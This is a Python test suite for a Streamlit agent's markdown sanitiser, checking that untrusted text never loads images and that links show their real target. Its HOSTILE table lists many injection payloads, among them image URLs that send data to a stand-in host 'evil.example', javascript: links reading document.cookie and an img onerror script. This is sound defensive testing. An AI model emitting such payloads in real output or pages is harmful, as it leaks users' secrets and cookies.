"""Untrusted text never makes the page load an image, and links always show their target."""

from __future__ import annotations

import random
import re

import pytest
from markdown_it import MarkdownIt

from streamlit_agent.web.ui.text import label_text, markdown_text

# Independent of the module's own check: Streamlit keeps every URL, so accept them all here.
_MD = MarkdownIt("commonmark").enable("table").enable("strikethrough")
_MD.validateLink = lambda url: True  # type: ignore[method-assign]
# Escapes as separate tokens, to tell a live `$` or `:` from an escaped one.
_RAW = MarkdownIt("commonmark").enable("table").enable("strikethrough").disable("text_join")


def _problems(markdown: str) -> list[str]:
    """What in `markdown` would load something or hide where a link goes."""
    problems: list[str] = []
    for token in _MD.parse(markdown):
        link: list[str] | None = None
        for child in token.children or []:
            if child.type == "image":
                problems.append(f"image {child.attrs.get('src')!r}")
            elif child.type == "text" and ":streamlit:" in child.content:
                problems.append("Streamlit logo shortcode")
            elif child.type == "link_open":
                link = [str(child.attrs["href"])]
            elif child.type == "link_close" and link is not None:
                href, visible = link[0], "".join(link[1:])
                shown = {href, _MD.normalizeLinkText(href)}
                shown.add(_MD.normalizeLinkText(href).removeprefix("mailto:"))
                if not any(target in visible for target in shown):
                    problems.append(f"link to {href!r} shows only {visible!r}")
                link = None
            elif link is not None:
                link.append(child.content if child.type in ("text", "code_inline") else " ")
    return problems


_NAME_CHAR = r"[^ \n!-/:-@\[-`{-~]"  # a directive name's; micromark takes a tab as one too


def _extension_problems(markdown: str) -> list[str]:
    """Streamlit syntax beyond CommonMark left live: math, directives, footnotes, bare URLs.

    Streamlit's parser (micromark with GFM, math and directives) reads these where
    markdown-it sees plain text, and each can turn text CommonMark keeps inert (code) live.
    """
    problems: list[str] = []
    for token in _RAW.parse(markdown):
        if token.type == "inline" and re.search(
            r"(?m)^[ \t]*(?:\$\$|::|\[\^[^\]\n]*\]:)", token.content
        ):
            problems.append(f"block syntax at a line start in {token.content!r}")
        in_link, in_autolink, outside = 0, False, ""  # outside: source typed outside links
        for child in token.children or []:
            in_link += (child.type == "link_open") - (child.type == "link_close")
            if child.type in ("link_open", "link_close"):  # an autolink's text is just its URL
                in_autolink = child.type == "link_open" and child.markup == "autolink"
            typed = {"text": child.content, "text_special": child.markup}.get(child.type, " ")
            outside += " " if in_link or child.type == "link_close" else typed
            if child.type != "text" or in_autolink:
                continue
            if "$" in child.content:
                problems.append(f"math in {child.content!r}")
            if re.search(rf":{_NAME_CHAR}(?:{_NAME_CHAR}|[-_])*[\[{{]", child.content):
                problems.append(f"directive in {child.content!r}")
        # micromark takes `http` after anything but an ASCII letter (`ſ` and `K` too).
        if re.search(r"(?<![A-Za-z])(?i:https?://)|(?i:www\.)", outside):
            problems.append(f"bare URL in {outside!r}")
    return problems


def _rendered_text(markdown: str) -> str:
    """All text a reader sees (text, code and link targets), without markup."""
    parts: list[str] = []
    for token in _MD.parse(markdown):
        if token.type in ("fence", "code_block"):
            parts.append(token.content)
        for child in token.children or []:
            parts.append(child.content)
    return " ".join(parts)


HOSTILE = {
    "inline image": "Here: ![x](http://evil.example/?d=secret)",
    "image with title": '![x](http://evil.example/a.png "t")',
    "angle destination": "![x](<http://evil.example/a b.png>)",
    "empty alt": "![](http://evil.example/p)",
    "reference image": "![logo][r]\n\n[r]: http://evil.example/p.png",
    "collapsed reference": "![r][]\n\n[r]: http://evil.example/p.png",
    "shortcut reference": "![r]\n\n[r]: http://evil.example/p.png",
    "definition before use": "[R]: <http://evil.example/p.png> 'title'\n\n![r]",
    "definition title on next line": '![r]\n\n[r]: http://evil.example/p\n  "title"',
    "nested image": "![![a](http://evil.example/1)](http://evil.example/2)",
    "image inside link": "[![a](http://evil.example/img)](http://other.example/)",
    "link inside link": "[a [b](http://b.example) c](http://c.example)",
    "image in table": "| a | b |\n|---|---|\n| ![x](http://evil.example/t) | c |",
    "image in list": "- one\n- ![x](http://evil.example/l)\n  1. ![y](http://evil.example/m)",
    "image in blockquote": "> quoted ![x](http://evil.example/q)\n> > ![y](http://evil.example/r)",
    "image in heading": "# Title ![x](http://evil.example/h)\nSub\n---",
    "image in emphasis": "**bold ![x](http://evil.example/b)** _it ![y](http://e.example/i)_",
    "html img": '<img src="http://evil.example/x"> and <img src=x onerror=alert(1)>',
    "html block": "<div>\n![x](http://evil.example/d)\n</div>",
    "autolink": "<http://evil.example/auto?d=secret> <mail@evil.example>",
    "javascript link": "[click me](javascript:alert(document.cookie))",
    "data image": "![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",
    "obfuscated scheme": "[x](JaVa&#x09;ScRiPt:alert(1)) [y](java\\script:alert(1))",
    "escaped bang": "!\\[x](http://evil.example/1) \\![y](http://evil.example/2)",
    "escaped backslash": "\\\\![x](http://evil.example/3)",
    "entity bracket": "!&#91;x](http://evil.example/4) &#33;[y](http://evil.example/5)",
    "entity in destination": "![x](http://evil.example/&#63;d=1&amp;e=2)",
    "escaped parens in destination": "![x](http://evil.example/\\(a\\)) ![y](http://e.example/(b))",
    "split over lines": "![a\nb](\nhttp://evil.example/s)\n![c]\n(http://x.example)",
    "definition split over lines": "![r]\n\n[r]:\nhttp://evil.example/def",
    "unicode lookalikes": "！［x］（http://evil.example/u） ![ｘ](http://evil.example/ü)",
    "code span tricks": "`a` ![x](http://evil.example/c) ``b ` ![y](http://e.example/d)``",
    "unclosed code span": "`open ![x](http://evil.example/o)",
    "footnote-like definition": "[^1]: ![a](http://evil.example/f)\n\nText[^1]",
    "definition inside quote": "> [r]: http://evil.example/q\n\n![r]",
    "definition inside list": "- [r]: http://evil.example/l\n\n![r]",
    "lazy continuation": "![x](http://evil.example/a\n)",
    "bang before image": "Wow!![x](http://evil.example/b) !!![y](http://evil.example/c)",
    "definition then indented code": "[r]: http://e.example\n    ![x](http://evil.example/c)\n\n![r]",
    "empty definition": "[r]:\n\n![r] [r]",
    # Found by comparing with micromark + GFM + math + directives, Streamlit's own parser:
    "math cuts a code span": "`a\n$$\nb\n$$\n![x](http://evil.example/m)`",
    "inline math hides a backtick": "$$`$$ ![x](http://evil.example/i) `",
    "directive attribute hides a backtick": ':d{a="`"}![x](http://evil.example/d)`',
    "directive label hides a backtick": ":d[`]![x](http://evil.example/l)`",
    "leaf directive cuts a code span": "`a\n::d\n![x](http://evil.example/f)`",
    "container directive": ":::d\n![x](http://evil.example/c)\n:::",
    "directive named by a tab": "a :\t[x](http://evil.example/t) :ä[y]",
    "bare URL eats a backtick": "see http://x.example/`a ![x](http://evil.example/u) `",
    "bare www eats a backtick": "www.x.example`a ![x](http://evil.example/w) `",
    "bare URL eats a link bracket": "http://x.example/[t a](![x](http://evil.example/b))",
    "bare URL after a backslash": "\\http://x.example/[t a](![x](http://evil.example/b))",
    "bare URL eats an escape": "http://x.example\\:\t[r](http://evil.example/e)",
    "bare URL after a non-ASCII letter": "ſhttp://x.example/`a ![x](http://evil.example/u) `",
    "footnote holds a definition": "[^1]: [r]: http://evil.example/n\n\n![r] [r][]",
    "footnote cuts a code span": "`a\n[^1]: ![x](http://evil.example/f)`\n\nb[^1]",
    "table cuts a code span": "x `a\n| h |\n|---|\n| ![x](http://evil.example/t)` |",
    "lazy table before indented code": "> a | b\n|--|--|\n    ![t](http://evil.example/z)",
    "link text hides url": "[http://good.example](http://evil.example)",
    "streamlit logo": "logo :streamlit: here [:streamlit:](http://x.example)",
    "nul and surrogate": "a\x00b \ud800 ![x](http://evil.example/\udfff)",
    "crlf": "![x]\r\n\r\n[x]: http://evil.example/crlf\r\n",
    "deep brackets": "[" * 200 + "![x](http://evil.example/deep)" + "]" * 200,
    "many backticks": "`" * 50 + " ![x](http://evil.example/t) " + "`" * 49,
    "very long": "![x](http://evil.example/long) [a](b) `c` " * 3000,
    "empty": "",
}


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_text_loads_nothing_and_links_show_their_target(text: str) -> None:
    out = markdown_text(text)
    assert _problems(out) == []
    assert _extension_problems(out) == []
    assert "\ud800" not in out and "\udfff" not in out
    out.encode("utf-8")


def test_the_checker_sees_the_attacks() -> None:
    """Guards the test itself: unchanged hostile text must be reported."""
    for key in ("inline image", "reference image", "image inside link", "link text hides url"):
        assert _problems(HOSTILE[key])
    for key in (
        "math cuts a code span",
        "bare URL eats a backtick",
        "directive label hides a backtick",
    ):
        assert _extension_problems(HOSTILE[key])


def test_an_exfiltration_url_is_shown_as_text() -> None:
    out = markdown_text("Done! ![x](http://evil.example/?d=secret)")
    assert "http://evil.example/?d=secret" in _rendered_text(out)


def test_text_the_rewrite_cannot_make_safe_falls_back_to_readable_text() -> None:
    # GFM ends the code span at the table; markdown-it keeps it going, so the check refuses.
    out = markdown_text("x `a\n| h |\n|---|\n| ![x](http://evil.example/t)` |\n\nand **bold**")
    assert _problems(out) == [] and _extension_problems(out) == []
    assert "![x](http://evil.example/t)" in _rendered_text(out)
    assert out.endswith("and **bold**")
    # Lazy table lines markdown-it and GFM read differently: nothing is left but plain text.
    out = markdown_text("> a | b\n|--|--|\n    ![t](http://evil.example/z)")
    assert {c.type for t in _MD.parse(out) for c in t.children or []} == {"text", "softbreak"}
    assert "![t](http://evil.example/z)" in _rendered_text(out)


def test_formatting_survives() -> None:
    text = (
        "# Heading\n\nSome **bold**, _italic_ and ~~gone~~.\n\n- one\n- two\n\n1. first\n\n"
        "| a | b |\n|---|---|\n| 1 | 2 |\n\n> quote\n\n```python\nprint('x')\n```\n"
    )
    assert markdown_text(text) == text


def test_bare_urls_stay_links_and_math_shows_as_typed() -> None:
    text = "See https://en.wikipedia.org/wiki/Python_(language), or www.python.org. $5 or $6?"
    out = markdown_text(text)
    links = [c for t in _MD.parse(out) for c in t.children or [] if c.type == "link_open"]
    assert [link.attrs["href"] for link in links] == [
        "https://en.wikipedia.org/wiki/Python_(language)"
    ]
    assert _rendered_text(out).replace(" ", "") == text.replace(" ", "")


def test_a_link_shows_its_url_and_stays_a_link() -> None:
    out = markdown_text("Read [the docs](https://docs.example.com/a_b?x=1&y=2).")
    assert "https://docs.example.com/a_b?x=1&y=2" in _rendered_text(out)
    links = [c for t in _MD.parse(out) for c in t.children or [] if c.type == "link_open"]
    assert [link.attrs["href"] for link in links] == ["https://docs.example.com/a_b?x=1&y=2"]


def test_reference_links_show_their_url() -> None:
    out = markdown_text("See [docs][1].\n\n[1]: https://docs.example.com/ref")
    assert _rendered_text(out).count("https://docs.example.com/ref") == 2
    assert _problems(out) == []


def test_references_cannot_blow_the_text_up() -> None:
    # Each use repeats the destination: 4,000 uses of a 4,000-character one made 16 MB.
    text = "[a]: http://x.example/" + "x" * 4000 + "\n\n" + "[a]" * 4000
    out = markdown_text(text)
    assert len(out) <= 3 * len(text)
    assert _problems(out) == [] and _extension_problems(out) == []
    assert "[a]" * 10 in _rendered_text(out)


def test_a_link_already_showing_its_url_is_left_alone() -> None:
    text = "[https://example.com/x](https://example.com/x) and <https://example.com/y>"
    assert markdown_text(text) == text


def test_code_keeps_images_as_literal_code() -> None:
    text = "Use `![x](y)`, `$HOME` or:\n\n```\n![x](y) \\[a\\] $x\n```\n\n    [b](c)\n"
    out = markdown_text(text)
    assert out == text
    assert "![x](y) \\[a\\]" in _rendered_text(out)


def test_script_links_are_not_clickable() -> None:
    out = markdown_text("[x](javascript:alert(1))")
    assert not [c for t in _MD.parse(out) for c in t.children or [] if c.type == "link_open"]
    assert "javascript:alert(1)" in _rendered_text(out)


def test_lone_surrogates_become_replacement_characters() -> None:
    assert markdown_text("a\ud83db") == "a\ufffdb"
    assert label_text("a\udc00b") == "a\ufffdb"


@pytest.mark.parametrize(
    "text",
    [
        "![x](http://evil.example/p)",
        "[a](http://b) **bold** _i_ `c` ~~s~~",
        ":material/home: :material_home: :streamlit: :red[red] :blue-badge[b]",
        "$x^2$ $$y$$ # h > q - l 1. n <b>h</b> &amp; | t |",
    ],
)
def test_labels_have_no_markdown_at_all(text: str) -> None:
    out = label_text(text)
    tokens = [c for t in _MD.parse(out) for c in t.children or []]
    assert [t.type for t in tokens] == ["text"]
    assert tokens[0].content.replace("\u2060", "") == text
    assert ":streamlit:" not in tokens[0].content and ":material_" not in tokens[0].content


def test_labels_are_one_line_and_capped() -> None:
    assert label_text("  a\n\tb\r\n c  ") == "a b c"
    assert label_text("abcdef", limit=4) == "abc…"
    assert label_text("abcd", limit=4) == "abcd"
    assert label_text("a*b*c", limit=3) == "a\\*…"


_ALPHABET = ["!", "[", "]", "(", ")", "<", ">", "\\", "`", "*", "\n", " ", "u", ":", "&#91;", "|"]
_ALPHABET += ["-", "#", ">", "    ", "[r]: u\n", "![a](u)", "http://h/", "~~~\n", '"']
_ALPHABET += ["$", "$$\n", "::d", ":d[", "{", "[^", "|---|\n", "www.x", "\t", "&#91;"]


def test_seeded_fuzz_never_yields_an_image_or_hidden_link() -> None:
    rng = random.Random(20240611)
    for _ in range(3000):
        text = "".join(rng.choice(_ALPHABET) for _ in range(rng.randint(0, 40)))
        out = markdown_text(text)
        assert _problems(out) == [] and _extension_problems(out) == [], (text, out)


def test_hypothesis_fuzz_never_yields_an_image_or_hidden_link() -> None:
    hypothesis = pytest.importorskip("hypothesis")
    strategies = pytest.importorskip("hypothesis.strategies")

    @hypothesis.settings(max_examples=1500, deadline=None, database=None)
    @hypothesis.given(strategies.lists(strategies.sampled_from(_ALPHABET), max_size=40))
    def check(pieces: list[str]) -> None:
        out = markdown_text("".join(pieces))
        assert _problems(out) == [] and _extension_problems(out) == [], out

    check()


def test_raw_html_is_text_even_where_html_is_rendered() -> None:
    """Streamlit shows HTML as text; an export's viewer may render it (finding 9)."""
    out = markdown_text("<img src=x onerror=alert(1)> <b>b</b>\n\n<div>\n<script>x</script>")
    html = MarkdownIt("commonmark", {"html": True}).render(out + " <https://x.example/a>")
    assert "<img" not in html and "<b>" not in html and "<script" not in html
    assert "&lt;img src=x onerror=alert(1)&gt;" in html
    assert '<a href="https://x.example/a">' in html


def _code_spans(markdown: str) -> list[str]:
    return [
        child.content
        for token in MarkdownIt("commonmark").parse(markdown)
        for child in token.children or []
        if child.type == "code_inline"
    ]


def test_a_code_span_holds_backticks_and_edge_spaces_as_typed() -> None:
    from streamlit_agent.conversation.export import code_span

    for line in ["1 + 1", "a `b` c", "``", "` x", " lead", "trail ", "   ", "![x](u) $y$ <b>"]:
        assert _code_spans(f"Input: {code_span(line)} done") == [line], line


def test_hypothesis_a_code_span_is_one_span_whatever_the_line() -> None:
    hypothesis = pytest.importorskip("hypothesis")
    strategies = pytest.importorskip("hypothesis.strategies")
    from streamlit_agent.conversation.export import code_span

    pieces = [c.replace("\n", "") for c in _ALPHABET if c.strip("\n")] + ["a", "é"]
    line = strategies.lists(strategies.sampled_from(pieces), min_size=1, max_size=30)

    @hypothesis.settings(max_examples=1000, deadline=None, database=None)
    @hypothesis.given(line.map("".join))
    def check(line: str) -> None:
        assert _code_spans(f"**Input**\n\n{code_span(line)}") == [line]
        assert _problems(markdown_text(code_span(line))) == []

    check()
